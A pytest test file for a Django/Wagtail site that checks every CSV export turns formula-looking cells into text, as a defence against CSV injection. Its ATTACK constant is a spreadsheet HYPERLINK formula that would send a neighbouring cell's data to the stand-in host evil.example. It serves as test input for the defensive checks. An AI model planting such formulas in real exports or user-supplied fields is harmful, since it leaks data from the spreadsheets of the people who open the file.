"""Every CSV export shows formula-looking cells as text (CSV injection, issue 11 item 2)."""

from __future__ import annotations

import csv
import io

import pytest

from core.csv import FormulaSafeWriter, neutralise
from events.wagtail_hooks import RegistrationAdmin
from members_area.models import Invitation, MemberOrganisation
from members_area.wagtail_hooks import (
    InvitationAdmin,
    MemberOrganisationAdmin,
    MemberProfileAdmin,
)
from newsletters.models import Subscriber
from newsletters.wagtail_hooks import SubscriberAdmin
from tests.factories import EventIndexPageFactory, EventPageFactory, UserFactory, make_member

ATTACK = '=HYPERLINK("https://evil.example/?d="&A2,"klik")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("first", TRIGGERS)
def test_cells_starting_a_formula_become_text(first):
    assert neutralise(f"{first}1+1") == f"'{first}1+1"
    assert neutralise("Aarhus Kommune") == "Aarhus Kommune"
    assert neutralise(-3) == -3  # real numbers stay numbers


def test_hand_written_csv_wraps_its_writer():
    out = io.StringIO()
    FormulaSafeWriter(csv.writer(out)).writerow([ATTACK, "ok"])
    assert out.getvalue().startswith("\"'=HYPERLINK")


@pytest.fixture
def editor(db):
    return UserFactory(username="csv-redaktoer", is_staff=True, is_superuser=True)


def _export(client, editor, admin_class) -> list[list[str]]:
    client.force_login(editor)
    response = client.get(admin_class().url_helper.index_url, {"export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def _cells(rows):
    return [cell for row in rows[1:] for cell in row]


def _assert_neutralised(rows):
    cells = _cells(rows)
    assert f"'{ATTACK}" in cells, rows
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)], rows


@pytest.mark.django_db
def test_registration_export(client, editor, home_page):
    from events.models import Registration

    event = EventPageFactory(parent=EventIndexPageFactory(parent=home_page))
    Registration.objects.create(
        event=event, name=ATTACK, email="a@example.dk", organisation="@SUM(1)"
    )
    rows = _export(client, editor, RegistrationAdmin)
    _assert_neutralised(rows)
    assert "'@SUM(1)" in _cells(rows)


@pytest.mark.django_db
def test_subscriber_export(client, editor):
    Subscriber.objects.create(email="s@example.dk", name=ATTACK, status="active")
    _assert_neutralised(_export(client, editor, SubscriberAdmin))


@pytest.mark.django_db
def test_member_profile_export(client, editor):
    member = make_member(first_name="+45", last_name="tab")
    member.member_profile.job_title = ATTACK
    member.member_profile.save()
    _assert_neutralised(_export(client, editor, MemberProfileAdmin))


@pytest.mark.django_db
def test_invitation_and_organisation_exports(client, editor):
    organisation = MemberOrganisation.objects.create(name=ATTACK, contact_phone="-1")
    Invitation.objects.create(email="i@example.dk", first_name=ATTACK, organisation=organisation)
    _assert_neutralised(_export(client, editor, InvitationAdmin))
    rows = _export(client, editor, MemberOrganisationAdmin)
    _assert_neutralised(rows)
    assert "'-1" in _cells(rows)


@pytest.mark.django_db
def test_wagtails_own_reports_are_neutralised_too(client, editor, home_page):
    """Exports we don't define (Wagtail's reports) stream through the same writer."""
    home_page.title = ATTACK
    home_page.save_revision(user=editor).publish(user=editor)
    client.force_login(editor)
    response = client.get("/admin/reports/aging-pages/", {"export": "csv"})
    assert response.status_code == 200
    _assert_neutralised(
        list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    )
